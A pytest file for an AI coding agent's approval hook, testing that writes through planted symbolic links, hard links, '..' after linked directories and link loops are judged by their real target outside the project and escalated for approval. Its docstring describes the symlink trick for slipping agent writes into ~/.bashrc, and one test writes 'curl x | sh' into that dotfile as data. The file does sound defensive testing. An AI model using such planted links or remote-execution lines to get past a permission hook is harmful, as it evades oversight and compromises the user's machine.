"""Attacks on the hook's path judgement: a file the agent edits through a symbolic link.

A sandboxed tool can write its working directory, so it can plant
``NOTES.md -> ~/.bashrc`` (or a directory link) there; the agent's next
``Write`` of ``NOTES.md`` then writes the target.  These tests pin that the
hook judges, shows and diffs the target, never the link's name.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from registry_core.broker.wire.messages import ActionDisplay, PatternKind
from registry_core.cli.approve import decide
from registry_core.hook.actions import action_facts, edit_diff
from registry_core.hook.scope import Rules, Scope


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path]:
    """(project, home): a project directory and a "home" outside it with a dotfile."""
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    (home / ".bashrc").write_text("alias ls='ls --color'\n")
    return project, home


def test_a_write_through_a_planted_link_is_judged_shown_and_diffed_by_its_target(
    world: tuple[Path, Path],
) -> None:
    project, home = world
    (project / "NOTES.md").symlink_to(home / ".bashrc")
    facts = action_facts(
        "Write", {"file_path": str(project / "NOTES.md"), "content": "curl x | sh\n"}, str(project)
    )
    target = str(home / ".bashrc")
    assert not facts.inside_cwd
    assert facts.path == target
    assert (facts.pattern_kind, facts.pattern) == (PatternKind.PATH, target)
    assert facts.summary == f"write {project / 'NOTES.md'} → {target}"
    assert facts.display is ActionDisplay.DIFF and facts.detail is not None
    lines = facts.detail.splitlines()
    assert lines[:2] == [f"--- {target}", f"+++ {target}"]  # not /dev/null: the file exists
    assert "-alias ls='ls --color'" in lines and "+curl x | sh" in lines
    assert Rules().decide("claude-code", facts)[0] is Scope.DESKTOP


def test_a_relative_link_and_a_chain_of_links_end_at_the_real_file(
    world: tuple[Path, Path],
) -> None:
    project, home = world
    (project / "hop").symlink_to("../home/.bashrc")
    (project / "NOTES.md").symlink_to("hop")
    facts = action_facts(
        "Edit", {"file_path": "NOTES.md", "old_string": "ls", "new_string": "rm"}, str(project)
    )
    assert facts.path == str(home / ".bashrc") and not facts.inside_cwd
    assert facts.detail is not None and "-alias ls='ls --color'" in facts.detail.splitlines()


def test_a_new_file_under_a_linked_directory_is_judged_by_the_directory_target(
    world: tuple[Path, Path],
) -> None:
    project, home = world
    (project / "docs").symlink_to(home)
    for tool, field in (("Write", "file_path"), ("NotebookEdit", "notebook_path")):
        facts = action_facts(
            tool, {field: str(project / "docs" / "sub" / "new.txt"), "content": "x"}, str(project)
        )
        assert facts.path == str(home / "sub" / "new.txt"), tool
        assert not facts.inside_cwd, tool
        assert Rules().decide("claude-code", facts)[0] is Scope.DESKTOP, tool


def test_dotdot_after_a_linked_directory_is_never_read_lexically_as_inside(
    world: tuple[Path, Path],
) -> None:
    project, home = world
    (home / "deep").mkdir()
    (project / "sub").symlink_to(home / "deep")
    # The kernel reads sub/.. as home: the lexical reading (project/x) is not the file.
    facts = action_facts("Write", {"file_path": "sub/../x", "content": "x"}, str(project))
    assert not facts.inside_cwd
    decision, reason = decide_offline(
        facts_input=("Write", {"file_path": "sub/../x", "content": "x"}), cwd=project
    )
    assert decision == "ask"
    assert str(home / "x") in reason


def test_a_link_that_stays_inside_the_project_still_passes(world: tuple[Path, Path]) -> None:
    project, _ = world
    (project / "real.md").write_text("a\n")
    (project / "NOTES.md").symlink_to("real.md")
    facts = action_facts("Write", {"file_path": "NOTES.md", "content": "b\n"}, str(project))
    assert facts.inside_cwd and facts.path == str(project / "real.md")
    assert Rules().decide("claude-code", facts)[0] is Scope.PASS


def test_a_project_reached_through_a_linked_cwd_is_still_inside(tmp_path: Path) -> None:
    real = tmp_path / "real-project"
    real.mkdir()
    (tmp_path / "project").symlink_to(real)
    facts = action_facts("Write", {"file_path": "a.py", "content": ""}, str(tmp_path / "project"))
    assert facts.inside_cwd and facts.path == str(real / "a.py")


def test_a_symlink_loop_is_asked_here_with_the_reason(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "a").symlink_to("b")
    (project / "b").symlink_to("a")
    decision, reason = decide_offline(("Write", {"file_path": "a", "content": "x"}), project)
    assert decision == "ask"
    assert "symbolic links" in reason and str(project / "a") in reason
    # Even a tool the rules pass does not pass through a loop.
    decision, _ = decide_offline(("Read", {"file_path": "a"}), project)
    assert decision == "ask"


def test_an_unnameable_component_is_asked_here(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    decision, reason = decide_offline(
        ("Write", {"file_path": "x" * 300 + "/a", "content": ""}), project
    )
    assert decision == "ask" and "x" * 300 in reason


def test_a_file_with_a_second_name_elsewhere_is_not_inside(world: tuple[Path, Path]) -> None:
    project, home = world
    os.link(home / ".bashrc", project / "NOTES.md")
    facts = action_facts("Write", {"file_path": "NOTES.md", "content": ""}, str(project))
    assert facts.path == str(project / "NOTES.md")
    assert not facts.inside_cwd
    assert "2 names" in facts.summary
    assert Rules().decide("claude-code", facts)[0] is Scope.DESKTOP


def decide_offline(facts_input: tuple[str, dict[str, object]], cwd: Path) -> tuple[str | None, str]:
    """``ollie-approve``'s decision with no broker listening (the answer is ``ask`` then)."""
    from registry_core.hook.tool_call import ToolCall

    tool, inp = facts_input
    call = ToolCall(agent="claude-code", tool=tool, input=dict(inp), cwd=str(cwd))
    env = {"OLLIE_ELEVATE_SOCKET": str(cwd / "no-broker.sock"), "XDG_RUNTIME_DIR": str(cwd)}
    return decide(call, env, cwd / "no-rules.yaml", 1.0)


def test_an_existing_file_that_cannot_be_shown_is_never_diffed_as_a_new_one(
    world: tuple[Path, Path],
) -> None:
    project, home = world
    (project / "blob.bin").write_bytes(b"\x00\x01")
    facts = action_facts("Write", {"file_path": "blob.bin", "content": "x\n"}, str(project))
    assert facts.detail is not None
    first = facts.detail.splitlines()[0]
    assert first.startswith(f"--- {project / 'blob.bin'} (an existing file, binary")
    # A link swapped in after the path was resolved is not read through.
    (project / "NOTES.md").symlink_to(home / ".bashrc")
    diff = edit_diff("Write", str(project / "NOTES.md"), {"content": "x\n"})
    assert "alias" not in diff and diff.splitlines()[0].startswith(
        f"--- {project / 'NOTES.md'} (an existing file, cannot be read"
    )
